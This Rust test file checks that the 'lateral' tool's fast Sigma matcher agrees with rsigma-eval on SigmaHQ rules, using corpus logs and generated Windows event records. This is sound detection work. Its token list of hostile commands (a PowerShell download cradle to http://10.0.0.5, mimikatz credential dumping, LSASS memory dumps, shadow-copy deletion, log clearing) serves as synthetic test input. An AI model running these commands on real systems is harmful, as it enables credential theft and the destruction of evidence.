//! The fast Sigma path (logsource masks, the required-literal index and
//! lateral's own matcher in front of `rsigma-eval`) against the plain
//! `rsigma-eval` engines, rule by rule and record by record, both as the
//! scan reports hits and as lateral's matcher alone decides them (no
//! `rsigma-eval` confirmation of its matches): every SigmaHQ rule of the shared corpus
//! over every Windows record of the corpus logs (JSON Lines and EVTX), and
//! over generated Windows records built from the rules' own kind of
//! strings (mixed case, non-ASCII look-alikes, numbers as text). Skipped,
//! saying so, without the corpus.

mod common;

use lateral::sigma::SigmaRules;
use lateral::sigma::record::{self, Record};
use lateral::sigma::scan::{detect_fast, detect_own, detect_reference};
use std::io::{BufRead, BufReader, Read};
use std::path::{Path, PathBuf};

/// Compares both paths on each record; gives (records, hits).
fn compare(rules: &SigmaRules, recs: &[Record], what: &str) -> (usize, usize) {
    let mut hits = 0;
    for (i, rec) in recs.iter().enumerate() {
        let fast = detect_fast(rules, rec);
        let reference = detect_reference(rules, rec);
        assert_eq!(
            fast, reference,
            "{what}: record {i} differs: {}",
            rec.fields
        );
        let own = detect_own(rules, rec);
        assert_eq!(
            own, reference,
            "{what}: lateral's matcher differs on record {i}: {}",
            rec.fields
        );
        hits += fast.len();
    }
    (recs.len(), hits)
}

fn files(dir: &Path, out: &mut Vec<PathBuf>) {
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() {
            files(&p, out);
        } else {
            out.push(p);
        }
    }
}

fn json_records(path: &Path) -> Vec<Record> {
    let f = std::fs::File::open(path).expect("open");
    let r: Box<dyn Read> = if path.extension().is_some_and(|x| x == "gz") {
        Box::new(flate2::read::GzDecoder::new(f))
    } else {
        Box::new(f)
    };
    BufReader::new(r)
        .split(b'\n')
        .map_while(Result::ok)
        .filter_map(|l| record::from_json(&l))
        .collect()
}

fn evtx_records(path: &Path) -> Vec<Record> {
    let Ok(mut p) = evtx::EvtxParser::from_path(path) else {
        return Vec::new();
    };
    p.records_json_value()
        .filter_map(Result::ok)
        .filter_map(|r| record::from_value(r.data))
        .collect()
}

#[test]
fn fast_path_equals_rsigma_on_the_corpus_logs() {
    let Some(corpus) = common::corpus_dir("sigma_fast") else {
        return;
    };
    let rules = lateral::sigma::load(&corpus.join("sigma")).expect("rules load");
    assert!(rules.len() > 2000, "{} rules", rules.len());
    // Most rules are narrowed by a required literal, or the test says nothing.
    assert!(
        rules.indexed() * 10 > rules.len() * 9,
        "{}",
        rules.indexed()
    );
    let mut paths = Vec::new();
    files(&corpus.join("logs/windows-json"), &mut paths);
    files(&corpus.join("logs/evtx"), &mut paths);
    paths.sort();
    let (mut n, mut hits) = (0, 0);
    for p in &paths {
        let name = p.to_string_lossy();
        let recs = if name.ends_with(".evtx") {
            evtx_records(p)
        } else if name.ends_with(".json") || name.ends_with(".json.gz") {
            json_records(p)
        } else {
            continue;
        };
        let (a, b) = compare(&rules, &recs, &name);
        n += a;
        hits += b;
    }
    eprintln!("sigma_fast: {n} corpus records, {hits} hits, identical");
    assert!(n > 10_000, "{n} records");
    assert!(hits > 100, "{hits} hits");
}

/// A small deterministic generator (xorshift64*).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        let i = (self.next() % xs.len() as u64) as usize;
        xs.get(i).copied().unwrap_or("")
    }
    /// `s` with each ASCII letter's case flipped at random.
    fn mixcase(&mut self, s: &str) -> String {
        s.chars()
            .map(|c| {
                if self.next().is_multiple_of(3) {
                    c.to_ascii_uppercase()
                } else {
                    c
                }
            })
            .collect()
    }
}

const IMAGES: &[&str] = &[
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Windows\\System32\\rundll32.exe",
    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
    "C:\\Windows\\System32\\services.exe",
    "C:\\Windows\\PSEXESVC.exe",
    "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\System32\\reg.exe",
    "C:\\Windows\\System32\\schtasks.exe",
    "C:\\Windows\\System32\\net1.exe",
    "C:\\Users\\Public\\mimikatz.exe",
    "C:\\Windows\\System32\\wevtutil.exe",
    "C:\\Windows\\System32\\certutil.exe",
    "C:\\Windows\\System32\\mshta.exe",
    "C:\\Windows\\System32\\wsmprovhost.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\ProgramData\\svchost.exe",
    "C:\\Windows\\Temp\\\u{212a}ill.exe",
];

const TOKENS: &[&str] = &[
    "cmd.exe /c",
    " /c ",
    "whoami /all",
    "powershell -nop -w hidden -enc ",
    " -EncodedCommand ",
    "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')",
    "sekurlsa::logonpasswords",
    "net user /add",
    "net localgroup administrators",
    "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services",
    "schtasks /create /tn x /tr",
    "wmic /node:10.0.0.7 process call create",
    "\\\\10.0.0.7\\ADMIN$\\",
    "\\\\127.0.0.1\\C$",
    "vssadmin delete shadows /all /quiet",
    "wevtutil cl Security",
    "certutil -urlcache -split -f http://",
    "rundll32.exe comsvcs.dll, MiniDump",
    "procdump -ma lsass.exe",
    "ntdsutil \"ac i ntds\" ifm",
    "bitsadmin /transfer",
    "-ExecutionPolicy Bypass",
    "FromBase64String(",
    "Invoke-Mimikatz",
    "&&",
    "^",
    "`",
    "\u{202e}",
    "\u{1f600}",
    "\u{0130}NVOKE",
    "C:\\Windows\\Temp\\",
    "..\\..\\",
    " 1> \\\\127.0.0.1\\ADMIN$\\__1612 2>&1",
    "0x1fffff",
    "%COMSPEC%",
];

fn command(r: &mut Rng) -> String {
    let n = 1 + r.next() % 4;
    let mut s = String::new();
    for _ in 0..n {
        let t = r.pick(TOKENS);
        let t = r.mixcase(t);
        s.push_str(&t);
        s.push(' ');
    }
    s
}

fn esc(s: &str) -> String {
    serde_json::to_string(s).unwrap_or_default()
}

fn generated(n: usize) -> Vec<Record> {
    let mut r = Rng(0x0dd_ba11);
    let mut out = Vec::new();
    for i in 0..n {
        let host = format!("ws{:02}.corp.local", r.next() % 10);
        let ts = format!("2024-03-01T10:{:02}:{:02}Z", (i / 60) % 60, i % 60);
        let base = r.pick(IMAGES);
        let img = r.mixcase(base);
        let parent = r.pick(IMAGES).to_string();
        let cmd = command(&mut r);
        let user = r.pick(&["CORP\\admin", "NT AUTHORITY\\SYSTEM", "CORP\\user7", "-"]);
        let ip = r.pick(&["10.0.0.7", "127.0.0.1", "::1", "-", "8.8.8.8", "fe80::1"]);
        let line = match r.next() % 9 {
            0 | 1 => format!(
                r#"{{"@timestamp":"{ts}","Hostname":"{host}","EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":{},"CommandLine":{},"ParentImage":{},"ParentCommandLine":{},"User":{},"OriginalFileName":{},"IntegrityLevel":"{}"}}"#,
                esc(&img),
                esc(&cmd),
                esc(&parent),
                esc(&command(&mut r)),
                esc(user),
                esc(img.rsplit('\\').next().unwrap_or("")),
                r.pick(&["High", "System", "Medium"])
            ),
            2 => format!(
                r#"{{"@timestamp":"{ts}","Hostname":"{host}","EventID":"4688","Channel":"Security","NewProcessName":{},"CommandLine":{},"ParentProcessName":{},"SubjectUserName":"{}"}}"#,
                esc(&img),
                esc(&cmd),
                esc(&parent),
                r.pick(&["admin", "SYSTEM", "WS01$"])
            ),
            3 => format!(
                r#"{{"@timestamp":"{ts}","Hostname":"{host}","EventID":3,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":{},"Initiated":"{}","SourceIp":"10.0.0.5","DestinationIp":"{ip}","DestinationPort":{},"DestinationHostname":"{}"}}"#,
                esc(&img),
                r.pick(&["true", "false"]),
                r.pick(&["445", "135", "5985", "3389", "4444", "\"88\""]),
                r.pick(&["dc01", "raw.githubusercontent.com", "-", "ngrok.io"])
            ),
            4 => format!(
                r#"{{"@timestamp":"{ts}","Hostname":"{host}","EventID":4624,"Channel":"Security","TargetUserName":"{}","LogonType":{},"IpAddress":"{ip}","AuthenticationPackageName":"{}","LogonProcessName":"{}","ElevatedToken":"%%1842"}}"#,
                r.pick(&["Administrator", "admin", "ANONYMOUS LOGON", "svc_sql"]),
                r.pick(&["3", "10", "\"9\"", "2"]),
                r.pick(&["NTLM", "Kerberos", "Negotiate"]),
                r.pick(&["NtLmSsp ", "seclogo", "Advapi  "])
            ),
            5 => format!(
                r#"{{"@timestamp":"{ts}","Hostname":"{host}","EventID":5145,"Channel":"Security","ShareName":{},"RelativeTargetName":{},"IpAddress":"{ip}","AccessMask":"0x2"}}"#,
                esc(r.pick(&["\\\\*\\IPC$", "\\\\*\\ADMIN$", "\\\\*\\C$"])),
                esc(r.pick(&[
                    "svcctl",
                    "PSEXESVC-WS01-1234-stdin",
                    "atsvc",
                    "Windows\\Temp\\x.exe"
                ]))
            ),
            6 => format!(
                r#"{{"@timestamp":"{ts}","Hostname":"{host}","EventID":7045,"Channel":"System","Provider_Name":"Service Control Manager","ServiceName":"{}","ImagePath":{},"StartType":"demand start","AccountName":"LocalSystem"}}"#,
                r.pick(&["PSEXESVC", "BTOBTO", "updater"]),
                esc(&cmd)
            ),
            7 => format!(
                r#"{{"@timestamp":"{ts}","Hostname":"{host}","EventID":13,"Channel":"Microsoft-Windows-Sysmon/Operational","EventType":"SetValue","Image":{},"TargetObject":{},"Details":{}}}"#,
                esc(&img),
                esc(r.pick(&[
                    "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections",
                    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
                    "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\DisableRestrictedAdmin"
                ])),
                esc(r.pick(&[
                    "DWORD (0x00000000)",
                    "DWORD (0x00000001)",
                    "C:\\Users\\Public\\a.exe"
                ]))
            ),
            _ => format!(
                r#"{{"@timestamp":"{ts}","Hostname":"{host}","EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","ScriptBlockText":{}}}"#,
                esc(&cmd)
            ),
        };
        if let Some(rec) = record::from_json(line.as_bytes()) {
            out.push(rec);
        }
    }
    out
}

#[test]
fn fast_path_equals_rsigma_on_generated_windows_records() {
    let Some(corpus) = common::corpus_dir("sigma_fast") else {
        return;
    };
    let rules = lateral::sigma::load(&corpus.join("sigma/rules/windows")).expect("rules load");
    // lateral's matcher decides most rules itself, or the test says little.
    let (own, _) = rules.own_matcher();
    assert!(own * 10 > rules.len() * 9, "{own} of {}", rules.len());
    let recs = generated(20_000);
    assert_eq!(recs.len(), 20_000);
    let (n, hits) = compare(&rules, &recs, "generated");
    eprintln!("sigma_fast: {n} generated records, {hits} hits, identical");
    assert!(hits > 1000, "{hits} hits");
}

#[test]
fn stats_print_the_sigma_pass_and_its_rate() {
    let dir = tempfile::tempdir().expect("tempdir");
    let rule = dir.path().join("r.yml");
    std::fs::write(
        &rule,
        "title: Whoami\nid: 0f0f0f0f-1111-2222-3333-444444444444\nlevel: high\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  sel:\n    CommandLine|contains: whoami\n  condition: sel\n",
    )
    .expect("rule written");
    let mut text = String::new();
    let mut want_hits = 0;
    for i in 0..500 {
        let cmd = if i % 7 == 0 { "WHOAMI /all" } else { "dir" };
        want_hits += usize::from(i % 7 == 0);
        text.push_str(&format!(
            r#"{{"@timestamp":"2024-03-01T10:{:02}:{:02}Z","Hostname":"ws1","EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"{cmd}"}}"#,
            (i / 60) % 60,
            i % 60
        ));
        text.push('\n');
    }
    let log = dir.path().join("sysmon.jsonl");
    std::fs::write(&log, text).expect("log written");
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_lateral"))
        .args(["analyze", "--stats", "--sigma"])
        .arg(&rule)
        .arg(&log)
        .output()
        .expect("runs");
    let err = String::from_utf8_lossy(&out.stderr);
    let line = err
        .lines()
        .find(|l| l.trim_start().starts_with("sigma ") && l.contains("records/s"))
        .unwrap_or_else(|| panic!("no sigma stats line in:\n{err}"));
    assert!(
        line.contains(&format!("500 records, {want_hits} hits")),
        "{line}"
    );
    assert!(line.contains("1 rules (1 narrowed by literal"), "{line}");
    assert!(
        line.contains("1 by lateral's matcher, 0 by rsigma-eval"),
        "{line}"
    );
}

/// A rule on `CommandLine` process creation with the given selection.
fn short_rule(title: &str, selection: &str) -> String {
    format!(
        "title: {title}\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  sel:\n    {selection}\n  condition: sel\n"
    )
}

#[test]
fn short_literals_match_beside_long_ones_on_one_field() {
    // Literals of one to three bytes sit in their own small automaton,
    // those of four or more behind the prefix filter: at the value's
    // start, end and middle, in either case, overlapping each other and
    // the long ones, every rule hits as rsigma-eval says.
    let rules = [
        short_rule("one", "CommandLine|contains: 'q'"),
        short_rule("two", "CommandLine|contains: 'ab'"),
        short_rule("three", "CommandLine|contains: 'bcd'"),
        short_rule("start", "CommandLine|startswith: 'zy'"),
        short_rule("end", "CommandLine|endswith: '.js'"),
        short_rule("long", "CommandLine|contains: 'abcdef'"),
        short_rule("long2", "CommandLine|contains: 'cdefg'"),
        short_rule("both", "CommandLine|contains|all: ['ab', 'efgh']"),
        short_rule("exact", "CommandLine: 'ab'"),
    ];
    let rules = SigmaRules::from_yaml("short.yml", &rules.join("---\n"));
    assert_eq!(rules.report.refused, Vec::new());
    assert_eq!(rules.len(), 9);
    let cases: &[(&str, &[&str])] = &[
        ("ab", &["two", "exact"]),
        ("AB", &["two", "exact"]),
        ("xab", &["two"]),
        ("q", &["one"]),
        ("xxQ", &["one"]),
        ("abcdef", &["two", "three", "long"]),
        ("xABCDEFGh", &["two", "three", "long", "long2", "both"]),
        ("zyx", &["start"]),
        ("xzy", &[]),
        ("run.JS", &["end"]),
        ("a.js b", &[]),
        ("efgh then ab", &["two", "both"]),
        ("bc d", &[]),
        ("", &[]),
        ("zyabcdq.js", &["one", "two", "three", "start", "end"]),
    ];
    for (value, want) in cases {
        let line = format!(
            r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","CommandLine":"{value}"}}"#
        );
        let rec = record::from_json(line.as_bytes()).expect("record");
        let (n, _) = compare(&rules, std::slice::from_ref(&rec), value);
        assert_eq!(n, 1);
        let mut got: Vec<String> = detect_fast(&rules, &rec)
            .into_iter()
            .map(|(t, _)| t)
            .collect();
        got.sort();
        let mut want: Vec<String> = want.iter().map(|s| s.to_string()).collect();
        want.sort();
        assert_eq!(got, want, "{value}");
    }
}
